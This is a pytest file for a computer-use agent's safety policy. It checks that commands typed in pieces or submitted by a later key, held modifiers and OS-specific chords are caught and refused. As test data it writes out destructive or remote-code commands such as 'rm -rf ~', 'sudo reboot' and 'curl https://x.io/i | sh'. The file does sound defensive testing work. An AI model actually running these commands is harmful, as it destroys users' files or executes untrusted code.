"""Safety judged by effect: text typed then submitted separately, keys still held down,
and the chord the executor really presses on each OS."""

from __future__ import annotations

import pytest

from agent import actions as A
from agent.safety import SafetyPolicy

FIELD = A.Point(100, 100)
ELSEWHERE = A.Point(900, 700)


def click(point: A.Point = FIELD) -> A.Click:
    return A.Click(point, screen=point)


def verdicts(policy: SafetyPolicy, *actions: A.Action) -> list[str]:
    """Decide each action in order, stopping at the first refusal (as the loop does)."""
    out = []
    for action in actions:
        out.append(policy.decide(action).verdict)
        if out[-1] == "refused":
            break
    return out


@pytest.mark.parametrize(
    "submit",
    [
        A.Hotkey(("enter",)),
        A.Hotkey(("Return",)),
        A.Press(("enter",)),
        A.Hotkey(("kp_enter",)),
        A.Hotkey(("ctrl", "enter")),
        A.Hotkey(("shift", "Return")),
        A.Type("\n"),
        A.Type("", enter=True),
        A.Hotkey(("ctrl", "m")),  # a terminal's Return
        A.Hotkey(("ctrl", "j")),
    ],
    ids=lambda a: f"{a.name}-{'+'.join(getattr(a, 'keys', ())) or repr(a.text)}",
)
def test_typed_command_submitted_by_a_later_key_is_judged(submit):
    policy = SafetyPolicy("normal")
    result = verdicts(policy, click(), A.Type("rm -rf ~"), submit)
    assert result == ["run", "run", "refused"]
    assert "rm -rf ~" in policy.risk(submit)


def test_text_typed_in_pieces_is_judged_as_one():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Type("sudo "), A.Type("reboot"), A.Hotkey(("enter",)))[-1] == (
        "refused"
    )


def test_the_typed_text_is_remembered_across_steps_until_submitted():
    policy = SafetyPolicy("normal")
    policy.decide(A.Type("curl https://x.io/i | "))  # step 1
    policy.decide(A.Type("sh"))  # step 2
    assert policy.pending_text == "curl https://x.io/i | sh"
    assert policy.decide(A.Press(("enter",))).verdict == "refused"  # step 3


def test_submitting_clears_the_field_so_the_next_line_is_judged_alone():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Type("ls -la", enter=True), A.Type("pwd"), A.Hotkey(("enter",))) == [
        "run", "run", "run"]
    assert policy.pending_text == ""


def test_a_click_elsewhere_or_tab_is_a_new_field():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, click(), A.Type("rm -rf ~"), click(ELSEWHERE), A.Type("notes"),
                    A.Hotkey(("enter",))) == ["run"] * 5
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Type("sudo reboot"), A.Hotkey(("tab",)),
                    A.Hotkey(("enter",))) == ["run"] * 3


def test_a_click_into_the_same_field_keeps_its_text():
    policy = SafetyPolicy("normal")
    near = A.Point(FIELD.x + 30, FIELD.y + 5)
    result = verdicts(policy, click(), A.Type("rm -rf ~"), click(near), A.Hotkey(("enter",)))
    assert result == ["run", "run", "run", "refused"]


def test_backspace_edits_the_remembered_text():
    policy = SafetyPolicy("normal")
    verdicts(policy, A.Type("rebootx"), A.Hotkey(("backspace",)))
    assert policy.pending_text == "reboot"
    assert policy.decide(A.Hotkey(("enter",))).verdict == "refused"


def test_a_new_run_starts_with_an_empty_field_and_no_held_keys():
    policy = SafetyPolicy("normal")
    verdicts(policy, A.Type("sudo ls"), A.Press(("ctrl",)))
    policy.start_run()
    assert policy.pending_text == "" and policy.held_keys == ()
    assert policy.decide(A.Hotkey(("enter",))).verdict == "run"
    assert policy.decide(A.Hotkey(("w",))).verdict == "run"


# --- held keys ----------------------------------------------------------------------------


def test_a_held_modifier_counts_with_a_later_key():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Press(("ctrl",)), A.Hotkey(("w",))) == ["run", "refused"]
    assert "ctrl still held" in policy.risk(A.Hotkey(("w",)))


def test_pressing_the_keys_of_a_chord_one_by_one_is_the_chord():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Press(("alt",)), A.Press(("f4",))) == ["run", "refused"]


def test_typing_with_ctrl_held_presses_chords():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Press(("ctrl",)), A.Type("aw")) == ["run", "refused"]


def test_held_ctrl_then_m_submits_like_return():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Type("sudo reboot"), A.Press(("ctrl",)), A.Type("m")) == [
        "run", "run", "refused"]


def test_released_keys_no_longer_count():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Press(("ctrl",)), A.Release(("ctrl",)), A.Hotkey(("w",)),
                    A.Type("quiet")) == ["run"] * 4
    assert policy.held_keys == ()


def test_held_shift_is_just_capitals():
    policy = SafetyPolicy("normal")
    assert verdicts(policy, A.Press(("shift",)), A.Type("hello")) == ["run", "run"]


# --- the chord the executor presses --------------------------------------------------------


def test_ctrl_alt_esc_on_macos_is_force_quit():
    mac = SafetyPolicy("normal", platform="darwin")
    why = mac.risk(A.Hotkey(("ctrl", "alt", "esc")))
    assert why and "Force Quit" in why and "command+esc+option" in why


@pytest.mark.parametrize(
    ("keys", "platform", "risky"),
    [
        (("ctrl", "q"), "darwin", True),  # pressed as command+q
        (("cmd", "q"), "darwin", True),
        (("super", "q"), "darwin", True),  # win/super is command on a Mac
        (("cmd", "q"), "linux", True),  # command means ctrl here: ctrl+q quits
        (("ctrl", "w"), "win32", True),
        (("alt", "f4"), "darwin", False),  # option+f4 closes nothing on a Mac
        (("ctrl", "c"), "darwin", False),
        (("ctrl", "shift", "t"), "linux", False),
        (("win", "shift", "q"), "linux", True),
        (("ctrl", "alt", "f1"), "linux", True),
        (("ctrl", "alt", "t"), "linux", False),
    ],
)
def test_chords_are_judged_as_pressed_on_each_os(keys, platform, risky):
    why = SafetyPolicy("normal", platform=platform).risk(A.Hotkey(keys))
    assert bool(why) == risky, why


def test_parsed_key_names_reach_safety_as_chords():
    from agent.dialects import get_dialect

    dialect = get_dialect("uitars-1.5")
    reply = "Thought: close it\nAction: hotkey(key='ctrl-f4')"
    (action,) = dialect.parse(reply, (1000, 1000)).actions
    assert action.keys == ("ctrl", "f4")
    assert SafetyPolicy("normal", platform="linux").decide(action).verdict == "refused"
